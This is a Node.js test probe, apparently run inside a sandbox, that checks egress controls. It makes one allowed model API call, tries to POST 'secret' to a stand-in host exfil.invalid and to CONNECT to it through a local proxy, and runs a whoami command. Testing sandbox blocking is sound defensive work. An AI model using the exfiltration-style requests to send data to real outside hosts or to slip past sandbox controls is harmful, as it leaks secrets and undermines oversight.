// Runs INSIDE a sandbox: one allowed model call through the forwarder, one request to a host no
// rule allows (absolute-form proxy and CONNECT), and whoami. Prints one JSON line.
import http from 'node:http';
import { execFileSync } from 'node:child_process';

const out = {};
const r = await fetch(`${process.env.ANTHROPIC_BASE_URL}/v1/messages`, {
  method: 'POST',
  headers: {
    'content-type': 'application/json',
    'x-api-key': process.env.ANTHROPIC_API_KEY,
    'anthropic-version': '2023-06-01',
  },
  body: JSON.stringify({
    model: 'demo-helpful',
    max_tokens: 50,
    messages: [{ role: 'user', content: 'hi' }],
  }),
});
out.llm = { status: r.status, body: await r.json() };
const proxied = (options, end) =>
  new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port: 3128, ...options }, (res) => {
      let b = '';
      res.on('data', (d) => (b += d));
      res.on('end', () => resolve({ status: res.statusCode, body: b }));
    });
    req.on('connect', (res) => resolve({ status: res.statusCode }));
    req.on('error', (e) => resolve({ error: e.code }));
    req.end(end);
  });
out.http = await proxied(
  { method: 'POST', path: 'http://exfil.invalid/upload', headers: { host: 'exfil.invalid' } },
  'secret',
);
out.connect = await proxied({
  method: 'CONNECT',
  path: 'exfil.invalid:443',
  headers: { host: 'exfil.invalid:443' },
});
out.whoami = JSON.parse(execFileSync('gate', ['whoami', '--json'], { encoding: 'utf8' }));
process.stdout.write(JSON.stringify(out) + '\n');
